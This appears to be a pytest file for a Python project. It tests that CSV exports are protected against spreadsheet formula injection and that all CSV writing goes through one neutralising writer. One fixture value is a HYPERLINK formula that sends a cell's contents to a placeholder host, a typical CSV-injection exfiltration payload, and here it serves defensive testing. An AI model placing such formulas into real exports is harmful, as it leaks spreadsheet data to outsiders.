"""Every CSV the project writes opens safely in a spreadsheet: text cells that would run as formulas get a `'`."""

from __future__ import annotations

import re
from pathlib import Path

import polars as pl

from lalm_judge.core.spreadsheets import csv_bytes, neutralised, write_csv

ROOT = Path(__file__).resolve().parents[2]


def test_formula_cells_are_neutralised_and_the_rest_is_kept(tmp_path):
    frame = pl.DataFrame(
        {
            "comment": ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1 5", "-2", "@SUM(A1)", "\tx", "\ry", "ok = 1"],
            "score": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0],
            "rater_id": ["a", "b", None, "c", "d", "e", "f"],
        }
    )
    safe = neutralised(frame)
    assert safe["comment"].to_list() == [
        '\'=HYPERLINK("http://x.example/?"&A1,"see")',
        "'+1 5",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\ry",
        "ok = 1",
    ]
    assert safe["score"].to_list() == frame["score"].to_list(), "numbers are never changed"
    assert safe["rater_id"].to_list() == frame["rater_id"].to_list()
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    back = pl.read_csv(path)
    assert back["comment"].to_list() == safe["comment"].to_list()
    assert csv_bytes(frame) == path.read_bytes()
    assert not any(line.startswith(("=", "+", "-", "@")) for line in path.read_text().splitlines()[1:])


def test_every_csv_the_project_writes_goes_through_the_one_writer():
    """A `.write_csv(` or `csv.writer` anywhere else in the library, the rules' scripts or the benchmarks would bypass
    the neutralising."""
    writer = ROOT / "lalm_judge" / "core" / "spreadsheets.py"
    sources = [path for folder in ("lalm_judge", "workflow_scripts", "bench") for path in (ROOT / folder).rglob("*.py")]
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in sorted(sources)
        if path != writer
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\.write_csv\(|csv\.(?:writer|DictWriter)\(", line)
    ]
    assert offenders == [], f"write CSV with lalm_judge.core.spreadsheets.write_csv: {offenders}"
